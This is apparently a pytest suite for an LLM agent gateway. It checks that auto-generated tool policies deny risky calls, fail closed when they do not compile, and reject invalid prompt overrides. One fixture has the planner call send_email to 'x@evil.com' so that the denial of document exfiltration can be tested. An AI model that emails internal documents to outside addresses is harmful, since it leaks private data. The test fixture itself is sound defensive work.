"""Config fields that must act or be rejected, through a live server and the real SDK:
``X-Policy.auto_gen``, ``fsm.prune_failed_steps`` and the ``prompt.*`` overrides."""

from __future__ import annotations

import json
import re

import openai
import pytest

from airlock.agent.policy_gen import system_prompt
from airlock.policy import compile_policy
from tests.api.dual_roles import DUAL, Roles, program

BYOK = {**DUAL, "X-Api-Key": "sk-user"}
TOOLS = [
    {"type": "function", "function": {"name": "send_email", "description": "Send an email to anyone on the internet",
                                      "parameters": {"type": "object", "properties": {"to": {"type": "string"}}}}},
    {"type": "function", "function": {"name": "get_doc", "description": "Read an internal document",
                                      "parameters": {"type": "object", "properties": {"doc_id": {"type": "string"}}}}},
]
SENDS = program('send_email(to="x@evil.com")\nfinal_return_value = "sent"')
DENY_MAIL = '```sqrt\ntool "send_email" {\n    /// outside mail leaks documents\n    hard deny always;\n}\n```'


def _client(airlock, **headers: str) -> openai.OpenAI:
    return openai.OpenAI(api_key=airlock.keys["single"], base_url=f"{airlock.url}/control/chat/openai/v1",
                         default_headers={**BYOK, **headers}, max_retries=0)


def _ask(client, text: str = "mail the doc", messages: list | None = None, **kw):
    return client.chat.completions.with_raw_response.create(
        model="fake-model", messages=messages or [{"role": "user", "content": text}], tools=TOOLS, **kw)


AUTO = {"X-Policy": json.dumps({"auto_gen": True})}


def test_auto_gen_generates_the_sessions_policy_from_the_tools_and_enforces_it(airlock, fake_llm):
    roles = Roles(policy_llm=[DENY_MAIL], pllm=[SENDS, SENDS])
    fake_llm.handler = roles
    client = _client(airlock, **AUTO)
    raw = _ask(client)
    content = json.loads(raw.parse().choices[0].message.content)
    assert content["status"] == "failure"
    assert "Tool call send_email denied by argument checking policies." in content["error"]["message"]
    (writer,) = roles.sent["policy_llm"]
    told = json.dumps(writer)
    assert "send_email(to): Send an email to anyone on the internet" in told and "get_doc(doc_id)" in told
    # A second turn with the same tools reuses the session's policy: no second generation.
    again = _ask(client, messages=[{"role": "user", "content": "mail the doc"},
                                   {"role": "assistant", "content": raw.parse().choices[0].message.content},
                                   {"role": "user", "content": "try again"}],
                 extra_headers={"X-Session-ID": raw.headers["x-session-id"]})
    assert "denied" in again.parse().choices[0].message.content and len(roles.sent["policy_llm"]) == 1


def test_without_auto_gen_the_same_program_calls_the_tool(airlock, fake_llm):
    fake_llm.handler = Roles(pllm=[SENDS])
    call = _ask(_client(airlock)).parse().choices[0].message.tool_calls[0]
    assert call.function.name == "send_email"


def test_a_generated_policy_that_does_not_compile_fails_closed(airlock, fake_llm):
    roles = Roles(policy_llm=['```sqrt\ntool "send_email" { hard deny when ; }\n```'] * 3, pllm=[SENDS])
    fake_llm.handler = roles
    content = json.loads(_ask(_client(airlock, **AUTO)).parse().choices[0].message.content)
    assert content["status"] == "failure" and content["error"]["code"] == "policy_generation_failed"
    assert "X-Policy.auto_gen" in content["error"]["message"]
    assert len(roles.sent["policy_llm"]) == 3, "the compiler's errors go back to the writer, twice"
    assert "does not compile" in json.dumps(roles.sent["policy_llm"][-1])
    assert "pllm" not in roles.sent, "no program may run without the policy the session asked for"


def test_auto_gen_in_single_llm_mode_is_a_400(http, airlock, fake_llm):
    response = http.post("/control/chat/openai/v1/chat/completions",
                         headers={"Authorization": f"Bearer {airlock.keys['single']}", "X-Api-Key": "sk",
                                  "X-Policy": '{"auto_gen": true}'},
                         json={"model": "fake-model", "messages": [{"role": "user", "content": "x"}]})
    assert response.status_code == 400 and response.json()["error"]["param"] == "X-Policy.auto_gen"
    assert fake_llm.requests == []


@pytest.mark.parametrize("prompt, param", [
    ({"grllm": {"flavor": "universal", "version": "v2"}}, "X-Config.prompt.grllm"),
    ({"tagllm": {"flavor": "strict"}}, "X-Config.prompt.tagllm"),
    ({"policy_llm": {"flavor": "nope"}}, "X-Config.prompt.policy_llm.flavor"),
    ({"qllm": {"version": "v9"}}, "X-Config.prompt.qllm.version"),
    ({"pllm": {"flavor": "made-up"}}, "X-Config.prompt.pllm.flavor"),
])
def test_prompt_overrides_with_no_effect_are_a_400_naming_the_field(http, airlock, fake_llm, prompt, param):
    response = http.post("/control/chat/openai/v1/chat/completions",
                         headers={"Authorization": f"Bearer {airlock.keys['single']}", **BYOK,
                                  "X-Config": json.dumps({"prompt": prompt})},
                         json={"model": "fake-model", "messages": [{"role": "user", "content": "x"}]})
    assert response.status_code == 400, response.text
    assert response.json()["error"]["param"] == param
    assert fake_llm.requests == []


def test_prompt_overrides_that_select_a_template_are_served(airlock, fake_llm):
    roles = Roles(policy_llm=[DENY_MAIL], pllm=[SENDS])
    fake_llm.handler = roles
    config = {"prompt": {"policy_llm": {"flavor": "universal", "version": "v1"}, "qllm": {"version": "1"},
                         "pllm": {"flavor": "code"}}}
    raw = _ask(_client(airlock, **AUTO, **{"X-Config": json.dumps(config)}))
    assert "denied" in raw.parse().choices[0].message.content
    assert roles.sent["policy_llm"][0]["messages"][0]["content"] == system_prompt("universal", "v1")


@pytest.mark.parametrize("prune", [True, False])
def test_prune_failed_steps_decides_whether_the_planner_sees_earlier_failed_steps(airlock, fake_llm, prune):
    marker = "I would rather describe the plan in prose"
    roles = Roles(pllm=[marker, program('final_return_value = "ok"'), program('final_return_value = "again"')])
    fake_llm.handler = roles
    client = _client(airlock, **{"X-Config": json.dumps({"fsm": {"prune_failed_steps": prune}})})
    first = client.chat.completions.with_raw_response.create(
        model="fake-model", messages=[{"role": "user", "content": "first"}])
    answer = first.parse().choices[0].message.content
    assert json.loads(answer)["status"] == "success"
    client.chat.completions.create(
        model="fake-model", extra_headers={"X-Session-ID": first.headers["x-session-id"]},
        messages=[{"role": "user", "content": "first"}, {"role": "assistant", "content": answer},
                  {"role": "user", "content": "second"}])
    second_turn = json.dumps(roles.sent["pllm"][2])
    assert "first" in second_turn and 'final_return_value = \\"ok\\"' in second_turn
    assert (marker in second_turn) is (not prune)


# -- the policy writer's prompt teaches only what our parser accepts ---------------------------


@pytest.mark.parametrize("version", [None, "v1"])
def test_every_sqrt_example_in_the_policy_prompt_compiles(version):
    prompt = system_prompt(None, version)
    blocks = re.findall(r"```sqrt\n(.*?)```", prompt, re.S)
    assert len(blocks) >= 4
    for block in blocks:
        compile_policy(block)  # raises PolicyError with line and column if the prompt teaches bad syntax
    outside = re.sub(r"```sqrt\n.*?```", "", prompt, flags=re.S)
    spans = re.findall(r"`([^`\n]+)`", outside)
    assert spans and not [s for s in spans if any(c in s for c in ";{}")], \
        "a statement outside a fenced example would escape this test"
    assert "priority 10;" in prompt
    assert not re.search(r'tool\s+r?"[^"]*"\s+\d+\s*\{', prompt), "the priority form our parser rejects"
